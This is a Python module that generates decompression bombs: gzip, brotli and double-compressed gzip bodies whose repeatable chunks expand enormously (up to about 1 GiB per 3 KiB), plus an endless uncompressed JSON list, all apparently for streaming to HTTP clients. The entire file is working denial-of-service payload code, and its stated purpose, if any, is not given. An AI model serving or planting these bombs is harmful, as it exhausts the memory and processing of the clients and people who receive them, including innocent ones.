"""Bodies that are small when compressed, or endless: a start, and a part to repeat.

Each part ends where the decoder needs no earlier data, so it can be repeated.
"""

import zlib
from functools import cache

import brotli

_BLOCK = b" " * 2**20
_BROTLI_BLOCK = b" " * 2**24
_AS_GZIP = 31
# A part fills a whole read of the client.
_READ_BYTES = 2**16


def spaces() -> tuple[bytes, bytes]:
    """Return a list that never gets an item, uncompressed."""
    return b"[", _BLOCK


@cache
def gzip_bomb() -> tuple[bytes, bytes]:
    """Return a bomb of 1 MiB per KiB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, _AS_GZIP)
    start = packer.compress(b"[") + packer.flush(zlib.Z_FULL_FLUSH)
    return start, _filling(packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH))


@cache
def brotli_bomb() -> tuple[bytes, bytes]:
    """Return a bomb of 11 MiB per KiB."""
    packer = brotli.Compressor(quality=5, lgwin=16)
    start: bytes = packer.process(b"[" + _BROTLI_BLOCK) + packer.flush()
    part: bytes = packer.process(_BROTLI_BLOCK) + packer.flush()
    return start, _filling(part)


@cache
def stacked_bomb() -> tuple[bytes, bytes]:
    """Return a bomb that is compressed twice: 1 GiB per 3 KiB."""
    start, part = gzip_bomb()
    packer = zlib.compressobj(9, zlib.DEFLATED, _AS_GZIP)
    outer = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    return outer, _filling(packer.compress(part * 16) + packer.flush(zlib.Z_FULL_FLUSH))


def _filling(part: bytes) -> bytes:
    return part * -(-_READ_BYTES // len(part))
